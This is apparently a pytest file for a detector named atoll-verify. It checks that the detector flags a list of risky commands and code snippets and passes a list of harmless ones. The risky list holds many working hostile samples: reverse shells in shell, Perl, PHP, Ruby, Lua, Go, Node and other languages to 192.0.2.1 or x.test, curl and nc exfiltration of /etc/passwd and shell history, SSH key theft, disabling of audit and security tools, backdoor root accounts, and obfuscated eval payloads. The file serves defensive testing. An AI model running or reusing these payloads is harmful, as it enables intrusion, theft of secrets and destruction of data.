# SPDX-License-Identifier: Apache-2.0
"""Commands that were judged wrongly once, with what is to be said of each, in a file and as `bash -c`."""
import json
import os
import shlex
import subprocess

import pytest
from atoll import ROOT

# Nothing of medium severity or worse is found in them.
HARMLESS = {
    "shell": (
        'curl -LO "https://dl.k8s.io/release/$(curl -L -s https://dl.k8s.io/release/stable.txt)/bin/linux/amd'
        '64/kubectl"',
        "shutdown --help", "reboot --version", "git push --force --dry-run", "rsync -n -a --delete a/ b/",
        "make -n install", "for N in 1 2 3; do ping -c1 192.168.1.$N; done", "sudo pacman -Sy", "sudo ls /tmp/bash",
        "sudo pacman -S zsh", "install -m644 unit.conf /usr/local/share/x/unit.conf", "chmod g+s shared",
        "install -d -m 2775 shared", "find . -type d -exec chmod g+s {} +", 'kill -0 "$PID"', "killall -USR1 dd",
        "sleep 9 & kill $!", "make & wait; kill %1", "gh api repos/o/r/hooks", "gh api /user/keys", "ls */*/*",
        "rm -f */*/*.o", "cat */*/*", 'rsync -az -e "ssh -i key" build/ host:/srv/app/', "yes | cp a b",
        "apt-get update && rm -rf /var/lib/apt/lists/*", "echo \u201chello\u201d", "grep -r \u201cname\u201d src",
        "node --eval 'console.log(1)'",
    ),
    "python": (
        "def run(x):\n    return x\nclass A:\n    def run(self):\n        return run(self)\nA().run()\n",
        "def numbers():\n    n = 0\n    while True:\n        yield n\n        n += 1\n",
    ),
    "javascript": (
        "const { spawn } = require('child_process');\nspawn('node', ['worker.js']);\n",
        "function* ids() { let n = 0; while (true) yield n++; }\n",
    ),
}

# Something is.
RISKY = {
    "shell": (
        "rm /etc/passwd", "rm /etc/wgetrc", "rm ~/.ssh/id_rsa", "rm ~/.bashrc", "rm /usr/bin/openssl",
        "rm /var/log/auth.log", "kill $(pgrep sshd)", "kill -9 $(ps aux | awk '{print $2}')",
        "find / -name id_rsa -exec cp {} /tmp/ \\;", "find / -name .netrc 2>/dev/null | xargs cat > /tmp/n",
        "cat ~/.bash_history ~/.zsh_history > /tmp/h", "cat /etc/shadow | nc 127.0.0.1 80",
        'P=$(which python3); $P -c \'import os; os.system("rm -rf /etc")\'',
        'get() { curl -so "$1" "http://x.test/$1"; }; run() { sh "$1"; }; get a; run a',
        'curl "http://x.test/?d=$(base64 -w0 /etc/passwd)"', 'curl http://x.test/ -d "$(id; hostname; whoami)"',
        "0<&196;exec 196<>/dev/tcp/192.0.2.1/80; sh <&196 >&196 2>&196", 'lua -e "os.execute(\'rm -rf /etc\')"',
        'lua -e "s=require(\'socket\').tcp();s:connect(\'192.0.2.1\',80);os.execute(\'sh -i <&3 >&3\')"',
        "echo 'set s [socket 192.0.2.1 80]; while 1 {gets $s c; puts $s [eval exec $c]; flush $s}' | tclsh",
        'julia -e \'using Sockets; s=connect("192.0.2.1", 80); while true; write(s, read(`$(readline(s))`)); end\'',
        'echo \'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","192.0.2.1:80");x:=e'
        'xec.Command("sh");x.Stdin=c;x.Stdout=c;x.Run()}\' > /tmp/t.go && go run /tmp/t.go',
        'echo \'var p=new java.lang.ProcessBuilder("sh").start();var s=new java.net.Socket("192.0.2.1",80);\' | jjs',
        'echo \'Runtime.getRuntime().exec("bash -c {exec,5<>/dev/tcp/192.0.2.1/80}");\' | jshell',
        'ruby -rsocket -e\'spawn("sh",[:in,:out,:err]=>TCPSocket.new("192.0.2.1",80))\'',
        'ruby -e \'system("rm -rf /etc")\'', 'php -r \'$s=fsockopen("192.0.2.1",80);exec("sh <&3 >&3 2>&3");\'',
        'php -r \'system("rm -rf /etc");\'',
        'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"192.0.2.1:80");STDIN->fdopen($c,r);$~->fdopen($c,w)'
        ';system$_ while<>;\'',
        'perl -e \'unlink glob "/etc/*"; system("rm -rf /etc")\'',
        "mkfifo /tmp/s; sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 >/tmp/s",
        "socat tcp-connect:192.0.2.1:80 exec:sh,pty", "ncat 192.0.2.1 80 -e /bin/bash",
        "rlwrap nc 192.0.2.1 80 -e sh", "mknod a p && telnet 192.0.2.1 80 0<a | sh 1>a",
        'awk \'BEGIN {s = "/inet/tcp/0/192.0.2.1/80"; s |& getline c; c |& getline}\'',
        'gdb -nx -ex \'python import os,pty,socket;s=socket.socket();s.connect(("192.0.2.1",80));[os.dup2(s.f'
        'ileno(),f) for f in (0,1,2)];pty.spawn("sh")\' -ex quit',
        'node -e \'sh=require("child_process").spawn("sh");require("net").connect(80,"192.0.2.1",function(){t'
        'his.pipe(sh.stdin);sh.stdout.pipe(this)})\'',
        "ssh -fNR 8080:localhost:22 u@x.test", "ngrok tcp 22", "systemctl stop auditd",
        "systemctl disable --now falcon-sensor", "setenforce 0", "useradd -o -u 0 -g 0 daemon2",
        "useradd -m -G sudo mallory && echo mallory:x | chpasswd",
        'curl -d "{\\"text\\": \\"$(cat /tmp/loot.txt)\\"}" https://hooks.slack.com/services/T0/B0/x',
    ),
    "python": (
        "import os\nos.remove('/etc/hosts')\n",
        "import os\nos.unlink(os.path.expanduser('~/.ssh/authorized_keys'))\n",
        "import psutil\nfor p in psutil.process_iter():\n    p.kill()\n", "eval('o' + 's.system')('rm -rf /etc')\n",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('rm -rf /etc')\n",
        "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2827726d202d7266202f6574632729').decode())\n",
        "import os\nos.system(''.join(chr(c ^ 1) for c in [115, 108, 33, 44, 115, 103, 33, 46, 100, 117, 98]))\n",
        "from setuptools import setup\nimport getpass, os, socket, requests\nrequests.get('http://x.test/', p"
        "arams={'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()})\nsetup(name='x')\n",
    ),
    "javascript": (
        "require('fs').unlinkSync('/etc/passwd');\n", "require('child_process')['ex' + 'ec']('rm -rf /etc');\n",
        "const sh = require('child_process').spawn('sh');\nrequire('net').connect(80, 'x.test', function () {"
        " this.pipe(sh.stdin); sh.stdout.pipe(this); });\n",
    ),
}


def judge(tmp_path, language, texts):
    """The rules of medium severity or worse that find each of the texts."""
    verify = os.path.join(os.environ.get("ATOLL_BIN", ROOT / "build" / "bin"), "atoll-verify")
    files = [tmp_path / str(number) for number in range(len(texts))]
    for file, text in zip(files, texts):
        file.write_text(text + "\n")
    done = subprocess.run([verify, "--json", "--no-own-rules", f"--language={language}", *files], capture_output=True,
                          text=True, check=False)
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(answers) == len(texts), done.stderr
    return [sorted({finding["id"] for finding in answer["findings"] if finding["severity"] != "low"})
            for answer in answers]


@pytest.mark.parametrize("language", HARMLESS)
def test_what_is_harmless_is_not_found(programs, tmp_path, language):
    found = judge(tmp_path, language, HARMLESS[language])
    assert not [(text, rules) for text, rules in zip(HARMLESS[language], found) if rules]


@pytest.mark.parametrize("language", RISKY)
def test_what_is_risky_is_found(programs, tmp_path, language):
    found = judge(tmp_path, language, RISKY[language])
    assert not [text for text, rules in zip(RISKY[language], found)
                if not [rule for rule in rules if not rule.startswith("unknown.")]]


def test_a_command_in_quotes_is_judged_as_the_same_text_in_a_file(programs, tmp_path):
    texts = (*HARMLESS["shell"], *RISKY["shell"])
    quoted = [shlex.join(["bash", "-c", text]) for text in texts]
    assert judge(tmp_path, "shell", quoted) == judge(tmp_path, "shell", texts)
